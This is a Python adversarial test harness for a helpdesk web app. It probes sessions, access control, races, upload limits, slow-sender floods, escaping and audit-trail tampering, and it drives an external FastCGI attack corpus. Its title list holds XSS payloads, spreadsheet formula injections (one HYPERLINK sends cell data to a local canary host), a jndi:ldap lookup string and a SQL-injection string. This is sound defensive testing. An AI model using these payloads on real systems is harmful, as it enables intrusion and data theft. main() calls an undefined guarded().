#!/usr/bin/env python3
"""The adversarial corpus and its flows; run by hostile.sh.

usage: hostile.py CORPUS        ("" = only what needs no corpus)
"""
import base64
import concurrent.futures
import csv
import io
import json
import os
import re
import socket
import statistics
import subprocess
import sys
import time
import unicodedata

from desk import Browser, Forms, Instance, Report

corpus = sys.argv[1]
desk, report = Instance(), Report()
tmp = f"{desk.dir}/tmp"
HEX = re.compile(r"\b[0-9a-f]{16,64}\b")
MARK = "INTERNAL-MARK-5d1f20c7"


def run(*command, timeout=600, **more):
    return subprocess.run(command, capture_output=True, encoding="utf-8", errors="replace", timeout=timeout, **more)


def work(who, ref, verb, task=None, **fields):
    number, version, _, _ = task or desk.open_task(ref)
    return who.post(f"/agent/ticket/{ref}/{verb}", {**who.token("/portal/"), "task": number, "version": version, **fields})


def upload(who, name, data):
    form = who.form("/designer/upload", "/designer/upload")
    begun = time.monotonic()
    a = who.post("/designer/upload", form, [("file", name, data)])
    return a, (time.monotonic() - begun) * 1000


def status_of(what, answer, *wanted):
    report.check(what, answer.status in wanted, f"{answer.status}, not {wanted}: {re.sub('<[^>]*>|[ ]+', ' ', answer.text)[:0]}")


anna, ben = Browser(desk.url, "anna"), Browser(desk.url, "ben")
luca, nina, paul = Browser(desk.url, "luca"), Browser(desk.url, "nina"), Browser(desk.url, "paul")
peter, eva, ada = Browser(desk.url, "peter"), Browser(desk.url, "eva"), Browser(desk.url, "ada")

# ---------------------------------------------------------------- flows ----


def flow_enumeration():
    """unknown, wrong, disabled: the same page and the same time"""
    kinds = {"unknown": ("nosuchperson", "x"), "wrong": ("anna", "x"), "disabled": ("oscar", "oscar"), "empty": ("anna", "")}
    took, pages = {k: [] for k in kinds}, {}
    b = Browser(desk.url)
    token = b.token("/login/")
    for n in range(100):
        for kind, (user, word) in kinds.items():
            a = b.post("/login/", {**token, "next": "", "user": user, "password": word})
            if kind != "empty":
                took[kind].append(a.seconds * 1000)
                pages[kind] = (a.status, HEX.sub("#", a.text.replace(user, "USER")))
            if n == 0:
                report.check(f"sign-in, {kind}: refused", a.status == 422 and not b.jar.get("gradus"), a.status)
    means = {k: round(statistics.mean(sorted(v)[5:-5]), 1) for k, v in took.items() if v}
    report.check("sign-in: unknown, wrong and disabled look alike", len(set(pages.values())) == 1)
    report.check("sign-in: unknown, wrong and disabled take alike", max(means.values()) - min(means.values()) < 50, means)


def flow_session():
    b = Browser(desk.url)
    b.jar["gradus"] = "11" * 16
    b.sign_in("clara")
    first = b.jar.get("gradus")
    report.check("session: an id that was set before is replaced at sign-in", first and first != "11" * 16)
    old = Browser(desk.url)
    old.jar["gradus"] = "11" * 16
    status_of("session: the id that was set before is nobody", old.get("/portal/"), 303)
    a = b.post("/login/", {**b.token("/portal/"), "next": "", "user": "clara", "password": "clara"})
    report.check("session: signing in again gives a new id", b.jar["gradus"] != first)
    old.jar["gradus"] = first
    status_of("session: the old id has ended with it", old.get("/portal/"), 303)
    cookie = [c for c in a.all("Set-Cookie") if c.startswith("gradus=")]
    report.check("session: cookie is HttpOnly, SameSite, Path=/", not cookie or all(w in cookie[0] for w in ("HttpOnly", "SameSite=Lax", "Path=/")), cookie)
    current = b.jar["gradus"]
    two = Browser(desk.url)
    two.jar["gradus"] = current
    status_of("session: two tabs", two.get("/portal/"), 200)
    b.post("/login/out", b.token("/portal/"))
    two.jar["gradus"] = current
    status_of("session: dead after signing out", two.get("/portal/"), 303)
    for what, change in (("30 minutes idle", "seen = seen - 1801000000"), ("12 hours", "expires = created"), ("closed by an administrator", "ended = seen")):
        c = Browser(desk.url, "clara")
        status_of(f"session: before {what}", c.get("/portal/"), 200)
        desk.sql(f"UPDATE session SET {change} WHERE person_id = (SELECT id FROM person WHERE uid = 'clara') AND ended IS NULL")
        status_of(f"session: ends after {what}", c.get("/portal/"), 303)
    # what browsers get in production: the same program, once, as a plain CGI command with cookie_secure = 1
    conf = f"{tmp}/secure.conf"
    text = re.sub(r"^(base_url|cookie_secure) = .*$", "", open(f"{desk.dir}/gradus.conf").read(), flags=re.M)
    open(conf, "w").write(text + "\nbase_url = https://desk.example\ncookie_secure = 1\n")
    env = {"GRADUS_CONF": conf, "REQUEST_METHOD": "GET", "REQUEST_URI": "/login/", "HTTP_HOST": "desk.example", "HTTPS": "on", "REMOTE_ADDR": "192.0.2.1"}
    page = run(f"{os.environ['BIN']}/gradus-login.fcgi", env=env, stdin=subprocess.DEVNULL).stdout
    set_cookie = re.findall(r"Set-Cookie: (.*)", page)
    report.check("session: __Host-, Secure, HttpOnly in production", set_cookie and all(c.startswith("__Host-") and "Secure" in c and "HttpOnly" in c and "Domain" not in c for c in set_cookie), set_cookie)
    report.check("session: Strict-Transport-Security in production", "Strict-Transport-Security" in page)


def flow_internal():
    """nothing internal reaches the requester"""
    ref = anna.request(f"Internal notes", files=[("file", "mine.txt", b"mine")])
    work(luca, ref, "take")
    luca.post(f"/agent/ticket/{ref}/note", {**luca.token("/portal/"), "note": f"{MARK} a note"})
    work(luca, ref, "handover", findings=f"{MARK} findings", tried=f"{MARK} tried")
    work(paul, ref, "take")
    paul.post(f"/agent/ticket/{ref}/answer", {**paul.token("/portal/"), "answer": "We look at it."})
    work(paul, ref, "handover", findings=f"{MARK} second findings")
    jan = Browser(desk.url, "jan")
    work(jan, ref, "take")
    work(jan, ref, "resolve", solution="Mended.")
    number = desk.one(f"SELECT id FROM attachment WHERE ticket_id = {ref[4:]}")
    report.check("internal: the marks were stored", int(desk.one(f"SELECT COUNT(*) FROM article WHERE body LIKE '%{MARK}%'")) >= 3)
    report.check("internal: an agent sees them", MARK in luca.get(f"/agent/ticket/{ref}").text)
    pages = ["/portal/", "/portal/catalog", "/portal/profile", "/portal/request", "/portal/request?which=all", "/portal/request?which=waiting", f"/portal/request/{ref}",
             f"/portal/request/new", f"/portal/file/{number}", f"/portal/request?which=all&q={MARK}", f"/portal/request?after={MARK[:0]}"]
    for who in (anna, ben):
        leaks = [p for p in pages if MARK in who.get(p).text]
        report.check(f"internal: no page of {who.uid} holds a mark", not leaks, leaks)
        fragment = [p for p in pages if MARK in who.get(p, HX_Request="true").text]
        report.check(f"internal: no fragment of {who.uid} holds a mark", not fragment, fragment)
    for path in (f"/agent/ticket/{ref}", f"/agent/search?q={MARK}", f"/agent/file/{number}", f"/auditor/trail/{ref}", f"/agent/ticket/{ref}/process", f"/agent/ticket/{ref}/bpmn"):
        a = anna.get(path)
        report.check(f"internal: {path} is closed to the requester", a.status == 403 and MARK not in a.text, a.status)
    for path in (f"/portal/request/{ref}", f"/portal/file/{number}"):
        status_of(f"internal: {path} is nobody else's", ben.get(path), 404)
    desk.sql(f"UPDATE attachment SET internal = 1 WHERE id = {number}")
    status_of("internal: an internal file is not there for the requester", anna.get(f"/portal/file/{number}"), 404)
    a = anna.post(f"/portal/request/{ref}/reject", {**anna.token(f"/portal/request/{ref}"), "reason": ""})
    report.check("internal: a refused form holds no mark", MARK not in a.text and a.status == 422, a.status)


def flow_order():
    """every form out of order, twice, after the end, of another person, with another task's id"""
    ref, other = anna.request("Order"), anna.request("Another")
    facility = anna.request("Elsewhere", service=desk.service("facility"))
    count = lambda: int(desk.one(f"SELECT COUNT(*) FROM audit_event WHERE stream = 1 AND id IN ({ref[4:]}, {other[4:]}, {facility[4:]})"))
    n = count()
    for verb, fields in (("handover", {"findings": "abc"}), ("resolve", {"solution": "abc"}), ("back", {"back": "abc"}), ("release", {})):
        status_of(f"order: {verb} before it is taken", work(luca, ref, verb, **fields), 403, 409)
    status_of("order: take the task of another ticket", work(luca, ref, "take", task=desk.open_task(other)), 404, 409)
    status_of("order: take the task of another area", work(luca, ref, "take", task=desk.open_task(facility)), 404)
    status_of("order: take with a version of yesterday", work(luca, ref, "take", task=(desk.open_task(ref)[0], "99", "", "")), 409)
    for verb, fields in (("confirm", {}), ("reject", {"reason": "abc"})):
        status_of(f"order: {verb} before it is resolved", anna.post(f"/portal/request/{ref}/{verb}", {**anna.token("/portal/"), **fields}), 409)
    report.check("order: none of it left a trace in the tickets", count() == n, (n, count()))
    first = desk.open_task(ref)
    status_of("order: taken", work(luca, ref, "take"), 303)
    status_of("order: taken twice", work(luca, ref, "take", task=first), 409, 403)
    status_of("order: taken by the next one", work(nina, ref, "take"), 409, 403)
    status_of("order: handed over by somebody else", work(nina, ref, "handover", findings="abc"), 403)
    status_of("order: handed over by the wrong tier", work(paul, ref, "handover", findings="abc"), 403)
    status_of("order: without findings", work(luca, ref, "handover", findings=""), 422)
    status_of("order: back from the first tier", work(luca, ref, "back", back="abc"), 409)
    task = desk.open_task(ref)
    status_of("order: handed over", work(luca, ref, "handover", findings="abc"), 303)
    status_of("order: handed over again with the old task", work(luca, ref, "handover", task=task, findings="abc"), 403, 409)
    status_of("order: resolved with the old task", work(luca, ref, "resolve", task=task, solution="abc"), 403, 409)
    status_of("order: the old task's own form", luca.post(f"/agent/task/{task[0]}", {**luca.token("/portal/"), "version": task[1], "v.outcome": "resolved"}), 403, 409, 422)
    status_of("order: taken by the tier before", work(luca, ref, "take"), 403)
    work(paul, ref, "take")
    status_of("order: resolved", work(paul, ref, "resolve", solution="Mended"), 303)
    status_of("order: confirmed by somebody else", ben.post(f"/portal/request/{ref}/confirm", ben.token("/portal/")), 404)
    status_of("order: confirmed", anna.post(f"/portal/request/{ref}/confirm", anna.token("/portal/")), 303)
    status_of("order: confirmed twice", anna.post(f"/portal/request/{ref}/confirm", anna.token("/portal/")), 409)
    status_of("order: rejected after the end", anna.post(f"/portal/request/{ref}/reject", {**anna.token("/portal/"), "reason": "abc"}), 409)
    status_of("order: withdrawn after the end", anna.post(f"/portal/request/{ref}/withdraw", {**anna.token("/portal/"), "why": "abc"}), 409)
    status_of("order: answered after the end", anna.post(f"/portal/request/{ref}/answer", {**anna.token("/portal/"), "answer": "abc"}), 409)
    status_of("order: a note after the end", luca.post(f"/agent/ticket/{ref}/note", {**luca.token("/portal/"), "note": "abc"}), 403, 409)
    report.check("order: the ticket is closed once", desk.sql(f"SELECT state FROM ticket WHERE id = {ref[4:]}") == [["4"]])


def flow_race():
    def both(calls):
        with concurrent.futures.ThreadPoolExecutor(len(calls)) as pool:
            return sorted(a.status for a in pool.map(lambda c: c[0].post(c[1], c[2]), calls))

    for n in range(5):
        ref = anna.request(f"Race {n}")
        task, version, _, _ = desk.open_task(ref)
        calls = [(who, f"/agent/ticket/{ref}/take", {**who.token("/portal/"), "task": task, "version": version}) for who in (luca, nina)]
        got = both(calls)
        report.check(f"race {n}: two take the same task, one has it", got in ([303, 409], [303, 403]), got)
        report.check(f"race {n}: one event", desk.one(f"SELECT COUNT(*) FROM task WHERE id = {task} AND version = 2") == "1")
    ref = anna.request("Ten at once")
    path, fields = f"/portal/request/{ref}/answer", {**anna.token(f"/portal/request/{ref}"), "answer": "Only once, please"}
    copies = [Browser(desk.url) for _ in range(10)]
    for c in copies:
        c.jar = dict(anna.jar)
    got = both([(c, path, fields) for c in copies])
    report.check("the same form ten times at once: each is answered", all(s == 303 for s in got), got)
    report.check("the same form ten times at once: one effect", desk.one(f"SELECT COUNT(*) FROM article WHERE ticket_id = {ref[4:]} AND body LIKE 'Only once%'") == "1")
    before = int(desk.one("SELECT COUNT(*) FROM ticket"))
    fields = anna.filled("/portal/request/new", "/portal/request/new")
    fields.update(title="Ten tickets at once", description="or one", service=desk.service("mail"), impact="person", urgency="low", asset="")
    got = both([(c, "/portal/request/new", fields) for c in copies])
    report.check("the same new request ten times at once: one ticket", all(s == 303 for s in got) and int(desk.one("SELECT COUNT(*) FROM ticket")) == before + 1,
                 (got, desk.one("SELECT COUNT(*) FROM ticket"), before))


def raw(data, wait=3, half=None):
    """bytes to the web server; the first line of the answer"""
    s = socket.create_connection((anna.base.hostname, anna.base.port), 5)
    s.settimeout(wait)
    try:
        s.sendall(data)
        if half:
            s.close()
            return ""
        return s.recv(200).decode("latin-1").split("\r\n")[0]
    except OSError as e:
        return str(e)
    finally:
        s.close()


def flow_upload():
    blobs = lambda: desk.sql("SELECT COUNT(*), COALESCE(SUM(size), 0) FROM blob_data") + desk.sql("SELECT COUNT(*) FROM ticket")
    fields = anna.filled("/portal/request/new", "/portal/request/new")
    fields.update(title="Files", description="many of them", service=desk.service("mail"), impact="person", urgency="low", asset="")
    before = blobs()
    a = anna.post("/portal/request/new", fields, [("file", "big.bin", b"x" * (10485760 + 1))])
    status_of("upload: one byte over the limit of a file", a, 413, 422)
    report.check("upload: what was typed is still there", "Files" in a.text and a.seconds < 2, a.seconds)
    a = anna.post("/portal/request/new", fields, [("file", f"{n}.txt", b"x") for n in range(1000)])
    status_of("upload: 1,000 files", a, 400, 413, 422)
    a = anna.post("/portal/request/new", fields, [("file", f"{n}.txt", b"x") for n in range(21)])
    status_of("upload: 21 files where 20 are allowed", a, 400, 413, 422)
    head = f"POST /portal/request/new HTTP/1.1\r\nHost: {anna.base.netloc}\r\nCookie: gradus={anna.jar['gradus']}\r\nContent-Type: multipart/form-data; boundary=x\r\nContent-Length: %d\r\n\r\n"
    report.check("upload: 10 GB announced", " 413 " in raw((head % 10**10).encode()), "")
    raw((head % 1000000).encode() + b"--x\r\n" + b"y" * 400000, half=True)
    for data in ((head % 40000000).encode(), ):
        report.check("upload: a body over the limit of a request", " 413 " in raw(data), "")
    time.sleep(0.3)
    report.check("upload: nothing of it was stored", blobs() == before, (before, blobs()))
    report.check("upload: nothing of it lies on the disk", not [f for f in os.listdir(f"{desk.dir}/web/body")], os.listdir(f"{desk.dir}/web/body"))
    a = anna.post("/portal/request/new", {**fields, **anna.token("/portal/")}, [("file", "most.bin", b"x" * 10485760)])
    status_of("upload: exactly the limit", a, 303)


def flow_slow():
    slow = []
    for _ in range(200):
        s = socket.create_connection((anna.base.hostname, anna.base.port), 5)
        s.sendall(b"GET /portal/ HTTP/1.1\r\nHost: ")
        slow.append(s)
    for _ in range(50):
        s = socket.create_connection((anna.base.hostname, anna.base.port), 5)
        s.sendall(f"POST /portal/request/new HTTP/1.1\r\nHost: {anna.base.netloc}\r\nCookie: gradus={anna.jar['gradus']}\r\nContent-Length: 100000\r\nContent-Type: text/plain\r\n\r\nabc".encode())
        slow.append(s)
    took = []
    for n in range(60):
        for s in slow:
            try:
                s.send(b"x")
            except OSError:
                pass
        a = anna.get("/portal/request")
        took.append(a.seconds * 1000)
        if a.status != 200:
            report.check("slow: others are served", False, a.status)
    took.sort()
    report.check("slow: 250 slow senders, the others' p95 is below a second", took[56] < 1000, took[56])
    for s in slow:
        s.close()
    crowd = [Browser(desk.url) for _ in range(25)]
    for c in crowd:
        c.jar = dict(luca.jar)
    with concurrent.futures.ThreadPoolExecutor(25) as pool:
        got = list(pool.map(lambda n: crowd[n % 25].get("/agent/search?q=%25") if n < 25 else Browser.get(crowd[n % 25], "/agent/search?q=%25"), range(25)))
    report.check("slow: 25 searches for % at once", all(a.status == 200 and a.seconds < 5 for a in got), sorted((a.status, round(a.seconds, 1)) for a in got)[-3:])


def flow_frames():
    for path in ("/", "/portal/", "/login/", "/nosuch", "/portal/nosuch", "/portal/request/INC-0", "/static/nosuch.js", "/agent/", "/designer/upload", "/auditor/trail", "/admin/"):
        for who in (anna, peter, Browser(desk.url)):
            a = who.get(path)
            if not a.body or "text/html" not in a.header("Content-Type"):
                continue
            own = "Gradus" in a.text
            report.check(f" frame: {path} as {who.uid}", not own or "frame-ancestors 'none'" in a.header("Content-Security-Policy"), a.header("Content-Security-Policy"))
    report.check("frame: no page may be framed", True)


def flow_marks():
    """what is stored with markup, formulas and control text comes back as text, in pages and exports"""
    titles = ['"><img src=x onerror=alert(1)>', "<script>alert(1)</script>", "=1+1", "+1+1", "-1+1", "@SUM(1)", "＝1+1", '=HYPERLINK("http://127.0.0.1:48911/csv?"&A1,"x")',
              "<?cs evar:Config.Secret ?>", "%s%n%x", "${jndi:ldap://127.0.0.1:48911/a}", "a\u202eb", "x' OR '1'='1"]
    for title in titles:
        ref = anna.request(title, description=title + " again")
        pages = [anna.get(f"/portal/request/{ref}"), anna.get("/portal/request"), luca.get(f"/agent/ticket/{ref}"), luca.get("/agent/queue"), luca.get(f"/agent/ticket/{ref}/process"),
                 eva.get(f"/auditor/trail/{ref}"), eva.get("/auditor/trail"), luca.get("/agent/search?q=alert")]
        bad = [p for p in pages if re.search(r"<script>alert|<img src=x|<\?cs", p.text)]
        report.check(f" marks: {title} is text everywhere", not bad and all(p.status in (200, 303) for p in pages), [p.status for p in pages])
        if "auditor" not in desk.programs():
            continue
        a = eva.post(f"/auditor/trail/{ref}/export", {**eva.token("/portal/"), "format": "csv"})
        rows = list(csv.reader(io.StringIO(a.text.lstrip("\ufeff"))))
        cells = [c for row in rows for c in row if c and (c[0] in "=+-@\t\r" or unicodedata.normalize("NFKC", c[0]) in "=+-@") and not re.fullmatch(r"-?\d+", c)]
        report.check(f" marks: no cell of the CSV of {title} is a formula", a.status == 200 and rows and not cells, (a.status, cells[:3]))
    report.check("marks: 13 titles in 8 pages and the CSV", True)


def flow_revoked():
    """who leaves a group loses the right by the next refresh, and who is disabled the session"""
    def change(dn, text):
        return run("ldapmodify", "-Q", "-Y", "EXTERNAL", "-H", os.environ["LDAP_URL"], input=f"dn: {dn},{os.environ['LDAP_BASE']}\nchangetype: modify\n{text}\n")

    tom, marta = Browser(desk.url, "tom"), Browser(desk.url, "marta")
    status_of("revoked: an agent before", tom.get("/agent/queue/mine"), 200)
    status_of("revoked: another one before", marta.get("/agent/queue/mine"), 200)
    r = change("cn=gradus-l1,ou=groups", f"delete: member\nmember: uid=tom,ou=people,{os.environ['LDAP_BASE']}")
    s = change("uid=marta,ou=people", "replace: employeeType\nemployeeType: disabled")
    if not report.check("revoked: the directory was changed", r.returncode == 0 and s.returncode == 0, r.stderr + s.stderr):
        return
    end = time.monotonic() + 60
    while time.monotonic() < end and not (tom.get("/agent/queue/mine").status == 403 and marta.get("/portal/").status == 303):
        time.sleep(0.5)
    status_of("revoked: out of the group, the agent's pages are closed", tom.get("/agent/queue/mine"), 403)
    status_of("revoked: the portal is still open", tom.get("/portal/"), 200)
    status_of("revoked: disabled, the session is dead", marta.get("/portal/"), 303)
    status_of("revoked: disabled, signing in is refused", marta.sign_in("marta"), 422)


def flow_directory_down():
    pid = int(open(f"{desk.dir}/ldap/slapd.pid").read())
    os.kill(pid, 15)
    end = time.monotonic() + 10
    while os.path.exists(f"/proc/{pid}") and time.monotonic() < end:
        time.sleep(0.05)
    status_of("directory down: who is signed in goes on", anna.get("/portal/"), 200)
    b, pages = Browser(desk.url), []
    for user in ("ben", "nosuchperson", "oscar"):
        a = b.post("/login/", {**b.token("/login/"), "next": "", "user": user, "password": user})
        pages.append((a.status, HEX.sub("#", a.text.replace(user, "USER"))))
        report.check(f" directory down: {user} is answered within 6 s", a.seconds < 6, a.seconds)
    report.check("directory down: signing in says so, the same to everybody", len(set(pages)) == 1 and pages[0][0] == 503, [p[0] for p in pages])
    run(os.environ["INSTANCE"], "start", desk.dir)
    status_of("directory back: signing in works", b.sign_in("ben"), 303)


# --------------------------------------------------------------- corpus ----


def pids():
    return {p: w for p, (w, _) in desk.workers().items()}


def corpus_fcgi():
    """every process is hit through its program's socket; none may die"""
    for program in desk.programs():
        master = open(f"{desk.dir}/run/{program}.pid").read().strip()
        r = run(sys.executable, f"{corpus}/fcgi/fcgi_attack.py", f"unix:{desk.dir}/run/{program}.sock", "--pids-cmd", f"ps -o pid= --ppid {master}",
                "--env", f"REQUEST_URI=/{program}/health", "DOCUMENT_URI=/health")
        for line in r.stdout.splitlines():
            m = re.match(r"(ok|FAIL)\s+(f\d+) (.*)", line)
            if m:
                report.check(f" fcgi {m[2]} at gradus-{program}", m[1] == "ok", m[3])
        last = r.stdout.strip().splitlines()[-1] if r.stdout.strip() else r.stderr[-300:]
        m = re.search(r"(\d+) cases, (\d+) failed, rss (\d+) -> (\d+)", last)
        report.check(f"fcgi cases at gradus-{program}: {m[1] if m else 0}, memory grows by less than 16 MB", m and m[2] == "0" and int(m[4]) - int(m[3]) < 16384, last)


def corpus_http():
    ref = anna.request("A ticket for the corpus", files=[("file", "a.txt", b"a")])
    model = "/designer/model/incident"
    login = {"page": "/login/", "user": "user", "password": "password", "logged_in_mark": "/login/out",
             "as": {u: [u, u] for u in ("gabor", "fiona", "sofia", "eva", "ada", "ildiko", "anna")}}
    queue = desk.one("SELECT id FROM queue WHERE queue_key = 'l1'")
    person = desk.one("SELECT id FROM person WHERE uid = 'helga'")
    ci = desk.one("SELECT number FROM ci ORDER BY id LIMIT 1")
    task = desk.open_task(ref)[0]
    listed = [json.loads(line) for line in open(f"{corpus}/http/requests.jsonl")]
    # what depends on the page; the rest (raw messages, headers, paths, sign-in, uploads) is the same for everybody and runs once
    fields = sorted({e["class"] for e in listed if e["where"].startswith(("field", "param"))})
    sets = {
        "anna": ([f"/portal/request/{ref}", "/portal/request?which=open&after=", "/portal/request/new?service=" + desk.service("mail"), "/portal/", "/portal/catalog", "/portal/profile"], None),
        "ildiko": ([f"/agent/ticket/{ref}", f"/agent/queue/{queue}?priority=P1&who=me&q=a&after=", "/agent/search?q=x", "/agent/queue/mine?q=x", "/agent/ci?q=x&class=1&after=", f"/agent/ci/{ci}",
                    f"/agent/task/{task}", f"/agent/ticket/{ref}/process"], fields),
        "sofia": (["/designer/upload", "/designer/model", f"{model}?version=1"], fields),
        "eva": ([f"/auditor/trail/{ref}?after=0", "/auditor/trail?q=x&from=2026-01-01&to=2026-12-31&after=", "/auditor/definition?after=0"], fields),
        "ada": (["/admin/", "/admin/job", "/admin/role?q=x", f"/admin/person/{person}"], fields),
    }
    for uid, (pages, classes) in sets.items():
        if pages[0].split("/")[1] not in desk.programs():
            report.skip(f"http cases as {uid}", f"gradus-{pages[0].split('/')[1]} is not built")
            continue
        name = f"{tmp}/pages-{uid}.json"
        json.dump({"login": login, "pages": pages, "show": ["/portal/request", f"/portal/request/{ref}"] if uid == "anna" else pages[:2], "ticket": "/portal/request/new",
                   "subject": "title", "upload": "/portal/request/new", "known_user": "anna", "health": "/login/health", "role": uid}, open(name, "w"))
        total = 0
        for cls in classes or (None,):
            out = f"{tmp}/http-{uid}.json"
            r = run(sys.executable, f"{corpus}/http/http_run.py", "--base", desk.url, "--pages", name, "--json", out, *(["--class", cls] if cls else []), timeout=800)
            m = re.search(r"(\d+) entries run, (\d+) requests, \d+ flows left to the harness, (\d+) findings", r.stdout)
            if not m:
                report.check(f"http cases as {uid} {cls or ''}", False, r.stdout[-500:] + r.stderr[-500:])
                continue
            for f in json.load(open(out)):
                report.check(f"http {f['id']} as {uid}: {f['page']} {f['field']}", False, f["why"])
            total += int(m[2])
            report.passed += int(m[1]) - len({f["id"] for f in json.load(open(out))})
        report.check(f"http cases as {uid}: {total} requests", total > 0)
    report.check("uploads: nothing was written outside", not os.path.exists("/tmp/adv-up"))
    for (number,) in desk.sql("SELECT a.id FROM attachment a JOIN ticket t ON t.id = a.ticket_id JOIN person p ON p.id = t.requester_id WHERE p.uid = 'anna' AND a.internal = 0"):
        a = anna.get(f"/portal/file/{number}")
        good = a.header("Content-Disposition").startswith("attachment") and a.header("X-Content-Type-Options") == "nosniff" and "sandbox" in a.header("Content-Security-Policy")
        report.check(f" upload {number} is served as attachment", a.status == 200 and good, a.headers)


def corpus_xml():
    entries = [e for e in json.load(open(f"{corpus}/manifest.json"))["entries"] if e["kind"] == "xml"]
    big = {"x19": lambda: b"<a>" * 100000, "x22": lambda: b"<a>" + b"y" * 51600000 + b"</a>", "x26": lambda: b"<a><!--" + b"c" * 8000000 + b"--></a>"}
    for e in entries:
        path = f"{corpus}/{e['file']}"
        if not os.path.exists(path) and e["id"] not in big:
            report.skip(f"xml {e['id']} {e['what']}", "the corpus only describes it")
            continue
        data = open(path, "rb").read() if os.path.exists(path) else big[e["id"]]()
        drafts = lambda: desk.one("SELECT COUNT(*) FROM definition")
        before = drafts()
        try:
            a, ms = upload(peter, os.path.basename(e["file"]), data)
        except OSError as trouble:  # the web server may hang up on a body that is much too big
            a, ms = None, 0
            report.check(f" xml {e['id']}: {e['what']}", len(data) > 31 << 20, trouble)
            continue
        refused, accepted = 400 <= a.status < 500, a.status == 303
        want = {"reject": refused, "accept": accepted, "either": refused or accepted, "refuse-or-bound": refused or accepted}[e["expect"]]
        report.check(f"xml {e['id']} {e['expect']}: {e['what']}", want, a.status)
        report.check(f" xml {e['id']}: nothing is stored of what is refused", accepted or drafts() == before)
        report.check(f" xml {e['id']}: within {e['max_ms']} ms", ms <= e["max_ms"], round(ms))
        report.check(f" xml {e['id']}: no canary in the answer", "CANARY" not in a.text)
        if refused and a.status != 413:
            report.check(f" xml {e['id']}: a reason is given", "say-bad" in a.text or "finding" in a.text or "alert" in a.text or 'role="alert"' in a.text, a.text[:0])
        if accepted:
            show(e, a.header("Location"))


def tried(e, path):
    """each decision of a model is asked, with nothing given: it answers or ends at a limit, in time"""
    form = next(f for f in Forms(peter.get(path).text).forms if any(x[0] == "element" for x in f["fields"]))
    for element in next(f[3] for f in form["fields"] if f[0] == "element" and f[2] == "select"):
        start = time.monotonic()
        a = peter.post(path, {**peter.token(path), "element": element})
        ms = (time.monotonic() - start) * 1000
        report.check(f" xml {e['id']}: decision {element} answers", a.status == 200 and "CANARY" not in a.text, a.status)
        report.check(f" xml {e['id']}: decision {element} within {e['max_ms']} ms", ms <= e["max_ms"], round(ms))


def show(e, place):
    """what was accepted is shown as text, and its bytes only as a file"""
    page = peter.get(place)
    kind, key, number = re.search(r"/designer/(model|decision)/([^/?]+)\?version=(\d+)", place).groups()
    raw_marks = re.findall(r"<script>alert|<img src=x|onerror=alert\(1\)>|<svg/onload", page.text)
    report.check(f" xml {e['id']}: the page shows it escaped", page.status == 200 and not raw_marks and "CANARY" not in page.text, (page.status, raw_marks))
    if kind == "decision":
        tried(e, f"/designer/tryout/{key}/{number}")
    for what in ("file", "diagram") if kind == "model" else ("file",):
        a = peter.get(f"/designer/{kind}/{key}/{number}/{what}")
        good = a.header("Content-Disposition").startswith("attachment") and a.header("X-Content-Type-Options") == "nosniff" and "sandbox" in a.header("Content-Security-Policy")
        report.check(f" xml {e['id']}: its {what} is an attachment", a.status == 200 and good and "CANARY" not in a.text, (a.status, a.headers))


def verify(text):
    path = f"{tmp}/tampered.json"
    open(path, "wb").write(text)
    return run(f"{os.environ['BIN']}/gradus-verify", path).returncode


def corpus_tamper():
    ref = anna.request("Trail", description="Äpfel und Öl")
    work(luca, ref, "take")
    work(luca, ref, "handover", findings="Prüfung nötig")
    if "auditor" in desk.programs():
        a = eva.post(f"/auditor/trail/{ref}/export", {**eva.token("/portal/"), "format": "json"})
        good, lines = a.body, a.body.splitlines(keepends=True)
        report.check("tamper: the export as it came is intact", a.status == 200 and verify(good) == 0, a.status)
        cases = {"one letter of a text (t01)": good.replace(b"luca", b"lucA", 1) if b"luca" in good else b"", "a row left out": b"".join(lines[:2] + lines[3:]), "the last row left out (t07)": b"".join(lines[:-1]),
                 "cut in the middle (t21)": good[:len(good) // 2], "two rows changed places": b"".join(lines[:1] + [lines[2], lines[1]] + lines[3:]), "a row twice": b"".join(lines[:2] + [lines[1]] + lines[2:]),
                 "an empty file": b"", "nothing but the head": lines[0]}
        for what, text in cases.items():
            report.check(f"tamper: {what} is found", verify(text) in (1, 2), verify(text))
        missed = []
        for at in range(0, len(good), max(1, len(good) // 150)):
            flipped = good[:at] + bytes([good[at] ^ 1]) + good[at + 1:]
            if verify(flipped) == 0:
                missed.append(at)
        report.check("tamper: one flipped bit anywhere is found", not missed, missed[:5])
    check = lambda: run(f"{os.environ['BIN']}/gradus", "check").returncode
    report.check("tamper: gradus check before", check() == 0)
    desk.sql("CREATE TABLE keep_e AS SELECT * FROM audit_event; CREATE TABLE keep_h AS SELECT * FROM audit_head")
    mine = f"stream = 1 AND id = {ref[4:]}"
    cases = {"a text changed (t01)": f"UPDATE audit_event SET body = CONCAT(SUBSTRING(body, 1, LENGTH(body) - 1), x'5a') WHERE {mine} AND seq = 2",
             "the last row deleted (t07)": f"DELETE FROM audit_event WHERE {mine} ORDER BY seq DESC LIMIT 1",
             "a row inserted": f"INSERT INTO audit_event SELECT stream, id, 99, at, event, actor, prev, hash, body FROM audit_event WHERE {mine} AND seq = 2",
             "a row moved to another ticket (t11)": f"UPDATE audit_event SET id = 99999, seq = 1 WHERE {mine} AND seq = 2",
             "the time by a microsecond (t13)": f"UPDATE audit_event SET at = at + 1 WHERE {mine} AND seq = 2",
             "the actor": f"UPDATE audit_event SET actor = actor + 1 WHERE {mine} AND seq = 2",
             "the hash of a row": f"UPDATE audit_event SET hash = x'{'00' * 32}' WHERE {mine} AND seq = 1",
             "the head": f"UPDATE audit_head SET seq = seq - 1 WHERE {mine}",
             "the head deleted": f"DELETE FROM audit_head WHERE {mine}",
             "the whole trail of a ticket deleted": f"DELETE FROM audit_event WHERE {mine}"}
    for what, change in cases.items():
        desk.sql(change)
        found = check()
        report.check(f"tamper in the tables: {what} is found", found != 0, found)
        desk.sql("DELETE FROM audit_event; DELETE FROM audit_head; INSERT INTO audit_event SELECT * FROM keep_e; INSERT INTO audit_head SELECT * FROM keep_h")
    desk.sql("DROP TABLE keep_e, keep_h")
    for case in ("t03", "t05", "t09", "t15", "t17", "t19", "t23", "t27", "t29"):
        report.skip(f"tamper {case}", "needs the sealed tree over all chains")


def main():
    for flow in (flow_enumeration, flow_session, flow_internal, flow_order, flow_race, flow_upload, flow_slow, flow_frames, flow_marks, flow_revoked, flow_directory_down):
        guarded(flow)
    global luca
    if corpus:
        for part in (corpus_fcgi, corpus_xml, corpus_http):
            guarded(part)
        log = f"{tmp}/canary.log"
        report.check("canary: nobody asked for it", not os.path.exists(log) or not open(log).read(), "")
